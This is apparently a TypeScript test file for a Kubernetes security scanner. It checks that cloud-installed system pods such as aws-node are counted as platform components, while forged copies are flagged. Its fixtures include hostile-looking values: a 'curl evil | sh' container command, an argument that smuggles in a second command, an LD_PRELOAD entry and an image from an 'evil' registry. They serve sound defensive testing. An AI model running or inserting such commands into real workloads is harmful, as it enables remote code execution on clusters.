import { describe, expect, it } from 'vitest';
import { addon } from '../../demo/kubernetes/addons.ts';
import { evaluate } from '../../shared/engine/evaluate.ts';
import type { ProviderName } from '../../shared/model/cluster.ts';
import type { Rule } from '../../shared/model/rule.ts';
import type { Kinds, Snapshot } from '../../shared/model/snapshot.ts';
import type { Container, PodSpec } from '../../shared/model/workload.ts';
import capabilities from '../../shared/rules/pods/capability-add-non-default.ts';
import hostNetwork from '../../shared/rules/pods/host-network.ts';
import hostPathSensitive from '../../shared/rules/pods/host-path-sensitive.ts';
import hostPathVolume from '../../shared/rules/pods/host-path-volume.ts';
import hostPid from '../../shared/rules/pods/host-pid.ts';
import privileged from '../../shared/rules/pods/privileged-container.ts';
import { goodCluster, snapshot } from '../estate.ts';

const rules = [privileged, capabilities, hostNetwork, hostPid, hostPathVolume, hostPathSensitive] as unknown as Rule[];
const shippedAs = (flavour: string, name: string) => addon(flavour, name) as unknown as PodSpec;
const awsNode = shippedAs('eks', 'aws-node');

const judge = (
  spec: PodSpec,
  where: Partial<NonNullable<Kinds['daemonsets']['metadata']>> = {},
  more: Partial<Snapshot> = {},
) => {
  const metadata = { namespace: 'kube-system', name: 'aws-node', uid: 'u', ...where };
  const template = { metadata: { labels: { k: 'v' } }, spec };
  const daemonset = { metadata, spec: { selector: {}, template } } as Kinds['daemonsets'];
  const { findings, tally } = evaluate({ ...snapshot({ daemonsets: [daemonset] }), ...more }, rules);
  return {
    findings: findings.map(({ ruleId, container = '' }) => `${ruleId} ${container}`.trim()).sort(),
    platform: tally.reduce((sum, one) => sum + (one.platform ?? 0), 0),
  };
};
const all = judge(awsNode, { name: 'other' }).findings;
const first = (change: (container: Container) => Container): PodSpec => {
  const [one, ...rest] = awsNode.containers;
  return { ...awsNode, containers: [change(one as Container), ...rest] };
};

describe('what a cloud installs is counted apart', () => {
  it.each<readonly [ProviderName, string]>([
    ['eks', 'aws-node'],
    ['eks', 'kube-proxy'],
    ['gke', 'netd'],
    ['aks', 'csi-azuredisk-node'],
  ])('%s %s, as it ships', (provider, name) => {
    const { findings, platform } = judge(shippedAs(provider, name), { name }, { cluster: goodCluster(provider) });
    expect(findings).toEqual([]);
    expect(platform).toBeGreaterThan(3);
  });

  it('and is neither pass nor fail', () => {
    const spec = { selector: {}, template: { metadata: {}, spec: awsNode } };
    const of = snapshot({ daemonsets: [{ metadata: { namespace: 'kube-system', name: 'aws-node', uid: 'u' }, spec }] });
    expect(evaluate(of, [privileged as unknown as Rule]).tally).toMatchObject([
      { pass: 1, fail: 0, unknown: 0, platform: 2, judged: 1 },
    ]);
  });
});

describe('nobody can borrow it', () => {
  const root = { name: 'root', hostPath: { path: '/' } };
  const extra = (container: object) => ({ ...awsNode, containers: [...awsNode.containers, container as Container] });
  const forged: readonly (readonly [string, PodSpec, { namespace?: string; name?: string }?, Partial<Snapshot>?])[] = [
    ['another namespace', awsNode, { namespace: 'shop' }],
    ['another name', awsNode, { name: 'aws-node-2' }],
    ['another cloud', awsNode, {}, { cluster: goodCluster('gke') }],
    ['no cloud that we know', awsNode, {}, { cluster: goodCluster('kubeconfig') }],
    ['an image of somebody else', first((one) => ({ ...one, image: 'docker.io/evil/amazon-k8s-cni:v1' }))],
    [
      'a general image of the same registry',
      first((one) => ({ ...one, image: '602401143452.dkr.ecr.eu-central-1.amazonaws.com/eks/kubectl:1' })),
    ],
    ['a command', first((one) => ({ ...one, command: ['sh', '-c', 'curl evil | sh'] }))],
    ['arguments', first((one) => ({ ...one, args: ['--x; curl evil'] }))],
    ['a hook', first((one) => ({ ...one, lifecycle: { postStart: { exec: { command: ['sh'] } } } }))],
    ['a library of its own', first((one) => ({ ...one, env: [{ name: 'LD_PRELOAD' }] }))],
    ['a mount over its program', first((one) => ({ ...one, volumeMounts: [{ name: 'log-dir', mountPath: '/app' }] }))],
    ['a sidecar', extra({ name: 'x', image: 'busybox' })],
  ];
  it.each(forged.map((one) => ({ what: one[0], one })))('$what: everything is an ordinary finding', ({ one }) => {
    const [, spec, where, more] = one;
    const { findings, platform } = judge(spec, where, more);
    expect(findings).toEqual(expect.arrayContaining(all));
    expect(platform).toBe(0);
  });

  it('a general-purpose image of the registry in kube-system', () => {
    const busybox = {
      name: 'box',
      image: 'mcr.microsoft.com/cbl-mariner/busybox:2.0',
      securityContext: { privileged: true },
    };
    const { findings } = judge({ containers: [busybox] }, { name: 'box' }, { cluster: goodCluster('aks') });
    expect(findings).toEqual(['privileged-container box']);
  });

  it('the genuine aws-node image with / mounted', () => {
    const mounted = first((one) => ({
      ...one,
      volumeMounts: [...(one.volumeMounts ?? []), { name: 'root', mountPath: '/host' }],
    }));
    const { findings } = judge({ ...mounted, volumes: [...(awsNode.volumes ?? []), root] });
    expect(findings).toEqual(all);
    const unmounted = judge({ ...awsNode, volumes: [...(awsNode.volumes ?? []), root] });
    expect(unmounted.findings).toEqual(['host-path-sensitive']);
    const changed = (awsNode.volumes ?? []).map((one) => (one.name === 'log-dir' ? { ...root, name: 'log-dir' } : one));
    expect(judge({ ...awsNode, volumes: changed }).findings).toEqual(all);
  });

  it('a capability or a namespace more is told, what is expected is not', () => {
    const more = first((one) => ({ ...one, securityContext: { capabilities: { add: ['NET_ADMIN', 'SYS_ADMIN'] } } }));
    expect(judge(more).findings).toEqual(['capability-add-non-default aws-node']);
    expect(judge({ ...awsNode, hostPID: true }).findings).toEqual(['host-pid']);
  });
});

it('a mirror of the registry counts by configuration alone', () => {
  const text = JSON.stringify(awsNode).replaceAll(
    '602401143452.dkr.ecr.eu-central-1.amazonaws.com',
    'harbor.example/eks',
  );
  const mirrored = JSON.parse(text) as PodSpec;
  expect(judge(mirrored).platform).toBe(0);
  const mirrors = { 'harbor.example/eks': '602401143452.dkr.ecr.eu-central-1.amazonaws.com' };
  expect(judge(mirrored, {}, { expected: { mirrors } }).findings).toEqual([]);
  expect(
    judge(mirrored, {}, { expected: { mirrors: { 'harbor.example/ek': mirrors['harbor.example/eks'] } } }).platform,
  ).toBe(0);
});
